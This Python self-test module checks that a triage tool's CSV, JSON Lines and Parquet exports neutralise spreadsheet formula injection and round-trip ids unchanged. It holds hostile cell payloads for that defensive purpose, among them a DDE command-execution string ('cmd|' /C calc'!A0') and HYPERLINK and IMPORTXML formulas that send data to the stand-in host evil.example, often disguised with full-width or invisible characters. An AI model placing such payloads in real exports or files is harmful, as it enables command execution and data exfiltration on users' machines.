"""Tables that triage writes: opened in a spreadsheet nothing is calculated, read again nothing is changed."""

from __future__ import annotations

import csv
import io
import pathlib
import unicodedata
from collections.abc import Iterator, Sequence

from triage_selftest._judging import rows_of, write_rows
from triage_selftest._place import Done, Place
from triage_selftest._trials import Fault, Outcome, Trial

__all__ = ["FAULTS"]

_TEXT = "my credit card was charged twice"
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "\ufe63",
    "'",
)
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"open")',
    "SUM(A1:A9)",
    'IMPORTXML("https://evil.example","//a")',
)
_BEFORE = (" ", "\u00a0", "\ufeff", "\u200b", "\x0b", "\u2028", "\x00", "''", "'")
_CELLS = (
    "", "plain", 'a "quoted" cell', "two\nlines", "two\r\nlines", "a,b;c\td", "007", "1e5", "NA", "null",
    "  ", "\u00e9\u4e2d\U0001f642", "lone \ud800 half", "\x00", "\x1b[31m", "\u202e", "x" * 40_000,
    '"', '""', ",",
)  # fmt: skip


def _cells() -> list[str]:
    formulas = [start + each for start in _STARTS for each in _FORMULAS]
    hidden = [before + start + "1+1" for before in _BEFORE for start in _STARTS]
    return list(dict.fromkeys([*formulas, *hidden, *_STARTS, *_CELLS]))


def _out(place: Place) -> Iterator[Trial]:
    names = [f"{cell}" for cell in _cells() if cell]
    file = write_rows(place.folder / "new.jsonl", [{"id": name, "text": _TEXT} for name in names])
    written = {form: place.folder / f"decided.{form}" for form in ("csv", "jsonl", "parquet")}
    for form in ("csv", "jsonl"):
        done = place.triage("route", place.model, file, "--format", form, "--out", written[form])
        if done.code:
            yield _silent(f"written as {form}", done)
            return
    raw = written["csv"].read_bytes()
    read = list(csv.reader(io.StringIO(raw.decode("utf-8", "surrogatepass"), newline="")))
    place_of = read[0].index("id")
    for name, row in zip(names, read[1:], strict=True):
        yield _inert(f"the id {name[:24]!a} as a cell", row[place_of])
    others = sum(_live(cell) for row in read[1:] for position, cell in enumerate(row) if position != place_of)
    yield _verdict("no other cell is a formula", others)
    yield _verdict("CSV, read again by triage", _differing(names, _ids(written["csv"])))
    found = [row["id"] for row in rows_of(Done(0, written["jsonl"].read_bytes(), b""))]
    yield _verdict("JSON Lines, read again", _differing(names, found))
    yield _verdict("JSON Lines, read again by triage", _differing(names, _ids(written["jsonl"])))
    for form in ("csv", "jsonl"):
        done = place.triage(
            "route", place.model, file, "--format", form, env={"LC_ALL": "C", "PYTHONUTF8": "0"}
        )
        same = done.out == written[form].read_bytes()
        yield _verdict(f"{form} into a pipe is the file byte for byte, in a plain locale", int(not same))
    yield from _parquet(place, file, names, written["parquet"])
    yield from _suspects(place, names)


def _parquet(place: Place, file: pathlib.Path, names: Sequence[str], out: pathlib.Path) -> Iterator[Trial]:
    try:
        import pyarrow.parquet as pq
    except ImportError:
        yield Trial(what="Parquet", outcome="skipped", detail="pyarrow is not installed")
        return
    done = place.triage("route", place.model, file, "--format", "parquet", "--out", out)
    refused = done.code == 65 and "Parquet cannot hold" in done.said and not out.exists()
    yield (
        Trial(what="half a character is refused by its row") if refused else _silent("half a character", done)
    )
    whole = [name for name in names if "\ud800" not in name]
    file = write_rows(place.folder / "whole.jsonl", [{"id": name, "text": _TEXT} for name in whole])
    done = place.triage("route", place.model, file, "--format", "parquet", "--out", out)
    if done.code:
        yield _silent("written as Parquet", done)
        return
    yield _verdict("Parquet, read again", _differing(whole, pq.read_table(out)["id"].to_pylist()))
    yield _verdict("Parquet, read again by triage", _differing(whole, _ids(out)))


def _suspects(place: Place, names: Sequence[str]) -> Iterator[Trial]:
    """Labels and ids in the file that a person works through, and the way back into a training."""
    labels = ("=1+1", "@SUM(A1)", "\uff0bcmd", "-2+3")
    with place.corpus.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    known = dict(zip(sorted({row["label"] for row in rows}), labels, strict=True))
    wrong = set(range(0, len(rows), 9))
    found = []
    for number, row in enumerate(rows):
        label = known[row["label"]] if number not in wrong else labels[number % 4]
        name = f"{names[number % len(names)][:50]}{number}"
        found.append({"id": name, "text": row["text"], "label": label})
    corpus = write_rows(place.folder / "labelled.jsonl", found)
    out = place.folder / "suspects.csv"
    done = place.triage("corpora", "check", corpus, "--labels", "--out", out)
    if done.code or not out.exists():
        yield _silent("suspicious labels", done)
        return
    cells = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8", "surrogatepass"), newline="")))
    yield _verdict("suspicious labels are no formulas", sum(_live(cell) for row in cells for cell in row))
    yield _verdict("there are suspicious labels", int(len(cells) < 2))
    done = place.triage("train", corpus, "--corrections", out, "--model", place.folder / "model")
    said = f"{len(cells) - 1:,} labels changed" in done.err.decode("utf-8", "replace")
    yield (
        Trial(what="corrections, taken back by train")
        if not done.code and said
        else _silent("corrections", done)
    )


def _ids(path: pathlib.Path) -> list[str]:
    from triage import Plugins
    from triage.plugin_api import load

    options = {"text_column": "label", "id_column": "id"}
    return [document.id for document in load(Plugins.discover(), str(path), options=options).documents]


def _differing(wanted: Sequence[str], found: Sequence[object]) -> int:
    return sum(one != other for one, other in zip(wanted, found, strict=False)) + abs(
        len(wanted) - len(found)
    )


def _live(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, or end it early."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = cell.lstrip("".join(filter(_unseen, set(cell))))
    return unicodedata.normalize("NFKC", seen[:1])[:1] in ("=", "+", "-", "@", "\u2212") if seen else False


def _unseen(character: str) -> bool:
    return character.isspace() or unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")


def _inert(what: str, cell: str) -> Trial:
    if _live(cell):
        return Trial(what=what, outcome="let_in", detail="a spreadsheet calculates it")
    return Trial(what=what)


def _verdict(what: str, bad: int) -> Trial:
    if not bad:
        return Trial(what=what)
    outcome: Outcome = "let_in" if "formula" in what else "lost"
    return Trial(what=what, outcome=outcome, detail=f"{bad:,} are not as they should be")


def _silent(what: str, done: Done) -> Trial:
    return Trial(what=what, outcome="silent", detail=f"exit code {done.code}: {done.said}")


FAULTS = (
    Fault(
        name="spreadsheet-cells",
        does="Cells that begin with = + - @, tab, a line break, full-width forms, hidden or not, in tables",
        must="No spreadsheet calculates them, and read again they are the same byte for byte",
        trials=_out,
    ),
)
